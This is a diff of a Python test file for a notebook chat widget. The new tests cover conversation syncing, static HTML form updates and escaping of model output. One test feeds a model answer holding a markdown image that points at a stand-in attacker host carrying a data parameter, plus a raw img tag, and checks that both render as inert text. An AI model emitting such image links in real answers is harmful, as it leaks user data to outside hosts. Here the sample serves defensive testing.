@@ -186,6 +186,7 @@ async def test_a_turn_streams_as_numbered_batches_and_ends_in_the_traits(
         [*answer("It is 5.")],
     ])
     chat = ChatView(session)
+    chat._view_opened({"view_id": "v1"})  # a view on the page holds what streamed
     assert (chat.session_id, chat.agent["name"], chat.running) == (session.id, "helper", False)
     await session.run("What is 2 + 3?")
     view = ViewModel()
@@ -210,6 +211,40 @@ async def test_a_turn_streams_as_numbered_batches_and_ends_in_the_traits(
     assert synced and all("messages" not in state for state in synced)
     assert chat.current["api_calls"] == 2
     assert chat.think_level == session.think_level
+
+
+async def test_with_no_view_open_the_turn_end_sends_the_conversation(
+        sent: SentMessages, monkeypatch: pytest.MonkeyPatch) -> None:
+    # nbconvert --execute, a page that does not show the output: nobody would set the
+    # trait from the streamed items, so the kernel sends it (the saved widget state has
+    # the conversation).
+    synced: list[dict[str, Any]] = []
+    monkeypatch.setattr(ChatView, "_send", lambda self, msg, buffers=None: synced.append(
+        msg.get("state", {})))
+    session, _ = make_session([answer("It is 5.")])
+    chat = ChatView(session)
+    await session.run("What is 2 + 3?")
+    (state,) = [state for state in synced if "messages" in state]
+    assert state["messages"] == chat.messages
+    assert [m["text"] for m in state["messages"]] == ["What is 2 + 3?", "It is 5."]
+
+
+async def test_the_turn_end_updates_the_static_form_in_place(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    updates: list[tuple[dict[str, str], str]] = []
+    monkeypatch.setattr("neta_nb.widgets._static_form.send_update",
+                        lambda data, display_id: updates.append((data, display_id)))
+    session, _ = make_session([answer("It is **5**."), answer("Again 5.")])
+    chat = ChatView(session)
+    chat._static_form.display_ids = ["d1"]  # as _ipython_display_ leaves it
+    await session.run("What is 2 + 3?")
+    assert [display_id for _, display_id in updates] == ["d1"]
+    data, _ = updates[-1]
+    assert "It is **5**." in data["text/html"]
+    assert data["text/html"].startswith('<div class="neta-static-form">')
+    assert data["text/plain"] == "helper · 2 messages\nIt is **5**."
+    await session.run("And again?")
+    assert len(updates) == 2 and "Again 5." in updates[-1][0]["text/html"]
 
 
 async def test_a_view_that_joins_mid_stream_syncs_the_partial_answer(
@@ -423,7 +458,6 @@ async def test_fallbacks_and_repr() -> None:
     assert repr(chat) == "ChatView('helper', 2 messages shown, idle)"
     assert chat._fallback_text() == "You: Hi <script>\n\nhelper: **Bold** <b>x</b>"
     assert "&lt;script&gt;" in chat._fallback_html() and "<script>" not in chat._fallback_html()
-    assert "**You:** Hi &lt;script" in chat._fallback_markdown()
 
 
 def test_an_empty_chat_says_how_to_open_it_where_the_chat_will_be() -> None:
@@ -431,24 +465,24 @@ def test_an_empty_chat_says_how_to_open_it_where_the_chat_will_be() -> None:
     # runs: it says what to do, not the status line of a run long gone.
     session, _ = make_session([answer("Hi.")])
     chat = ChatView(session)
-    data, _ = chat._repr_mimebundle_()
+    data = chat._static_form.bundle()
     assert "Run this cell to open the chat with helper." in data["text/html"]
-    assert data["text/markdown"] == "*Run this cell to open the chat with helper\\.*"
-    assert "ChatView(" not in data["text/html"] + data["text/markdown"]
-    assert data["text/plain"] == repr(chat)  # a text-only viewer still gets the repr
+    assert data["text/plain"] == "Run this cell to open the chat with helper."
+    assert "ChatView(" not in data["text/html"]
+    view, _ = chat._repr_mimebundle_()
+    assert view["text/plain"] == repr(chat)  # beside the widget view, one line
     chat.lang = "zh-CN"
     assert "运行此单元格以打开与 helper 的对话。" in chat._fallback_html()
 
 
-async def test_markdown_fallback_writes_model_text_as_text() -> None:
-    # A static viewer renders this markdown: an image in the answer must not load there.
+async def test_the_static_form_writes_model_text_as_text() -> None:
+    # A static viewer renders this HTML: an image in the answer must not load there.
     session, _ = make_session([answer("Done.\n\n![](http://attacker.example/?d=k) <img src=x>")])
     chat = ChatView(session)
     await session.run("Go")
-    markdown = chat._fallback_markdown()
-    assert "![" not in markdown and "<img" not in markdown
-    assert ("Done\\.  \n  \n\\!\\[\\]\\(http://attacker\\.example/?d=k\\) &lt;img src=x\\>"
-            in markdown)
+    page = chat._static_form.bundle()["text/html"]
+    assert "<img" not in page
+    assert "Done.\n\n![](http://attacker.example/?d=k) &lt;img src=x&gt;" in page
 
 
 def test_requests_without_a_session_fail_cleanly() -> None:
